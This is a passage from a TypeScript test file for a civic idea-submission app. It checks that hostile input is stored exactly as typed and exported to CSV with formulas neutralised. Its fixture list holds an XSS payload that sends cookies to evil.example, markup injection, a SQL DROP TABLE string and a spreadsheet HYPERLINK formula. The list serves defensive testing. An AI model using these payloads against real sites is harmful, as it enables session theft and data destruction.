        () => report(idea.id, { reason: 'other', details: 'x'.repeat(501) }),
        400,
        'invalid_request',
      ],
    ];
    for (const [name, send, status, code] of cases) {
      const before = await ideaSnapshot(t.store);
      const response = await send();
      assert.equal(response.status, status, name);
      assert.equal(await errorCode(response), code, name);
      assert.deepEqual(await ideaSnapshot(t.store), before, `${name}: nothing written`);
    }
    const retry = await report(idea.id, { reason: 'personal_data' }, { voter, key });
    assert.equal(retry.status, 201, 'a retried report answers the first answer');
    assert.equal(retry.headers.get('Idempotent-Replayed'), 'true');
  });
});

/** What people type, pasted or by accident, that must neither break nor be changed. */
const HOSTILE: Array<[string, string]> = [
  ['markup', '<b>Gras</b> <img src=x onerror="alert(1)"> <a href="javascript:alert(1)">lien</a>'],
  ['script', '<script>fetch("https://evil.example/?c=" + document.cookie)</script>'],
  ['a very long word', 'Anticonstitutionnellement'.repeat(40)],
  ['right-to-left text', 'مرحبا بكم في ساحة البلدية \u202Eabc\u202C עברית'],
  ['emoji', '🚲🌳 Vélos 👩🏽‍🦽 et fauteuils 🏳️‍🌈 🇫🇷'],
  ['zero-width and control characters', 'a\u200Bb\u200Cc\u200Dd\uFEFFe\u0007f\u001Bg\u007Fh\ti\r\nj'],
  ['SQL', "'; DROP TABLE ideas; -- Robert'); DELETE FROM idea_supports WHERE 1=1; --"],
  ['a formula', '=HYPERLINK("https://evil.example","Cliquez")'],
  ['another formula', '+33 6 12 34 56 78'],
  ['a dash list', '- des arbres\n- des bancs'],
  ['an at sign', '@mairie merci'],
  ['quotes and commas', 'Il a dit "oui", puis "non"'],
];

describe(`hostile input on ${ENGINE}`, () => {
  let t: TestApp;
  before(async () => {
    t = await openTestApp({ proofDifficulty: 20 });
    await createIdeaBox(t.app, { id: 'hostile', moderation: 'post' });
  });
  after(() => t.dispose());

  test('is stored and returned exactly as typed, and exported safely in CSV', async () => {
    const submittedIdeas: Idea[] = [];
    for (const [name, text] of HOSTILE) {
      const idea = await submitted(t, 'hostile', {
        title: text.slice(0, 120),
        body: text,
        authorName: text.slice(0, 80),
      });
      assert.equal(idea.body, text, name);
      submittedIdeas.push(idea);
    }
    const listed = (await everyPage(t, 'hostile', 'sort=new&limit=50')).flat();
    for (const [name, text] of HOSTILE) {
      const shown = listed.find((idea) => idea.body === text);
      assert.ok(shown, `${name} is listed as typed`);
      assert.equal(shown.title, text.slice(0, 120), name);
      assert.equal(shown.authorName, text.slice(0, 80), name);
    }
    const exported = IdeasExport.parse(
      await (await adminRequest(t.app, 'GET', '/v1/admin/idea-boxes/hostile/ideas.json')).json(),
    );
    assert.deepEqual(exported.ideas.map((idea) => idea.body).sort(), HOSTILE.map(([, text]) => text).sort());
    const csv = await (await adminRequest(t.app, 'GET', '/v1/admin/idea-boxes/hostile/ideas.csv')).text();
    const cells = parseCsv(csv).flat();
    for (const [name, text] of HOSTILE) {
      const expected = /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
      assert.ok(cells.includes(expected), `${name} is in the CSV${expected === text ? '' : ', made inert'}`);
    }
    assert.ok(!cells.some((cell) => /^[=+\-@]/.test(cell)), 'no cell starts with a character that makes a formula');
    const tables = await t.store.db.selectFrom('ideas').select('id').where('box_id', '=', 'hostile').execute();
    assert.equal(tables.length, submittedIdeas.length, 'the SQL-looking text ran nothing');
  });
});

/** A strict RFC 4180 reader, to check the export as a spreadsheet would read it. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += char;
  }
  return rows;
}
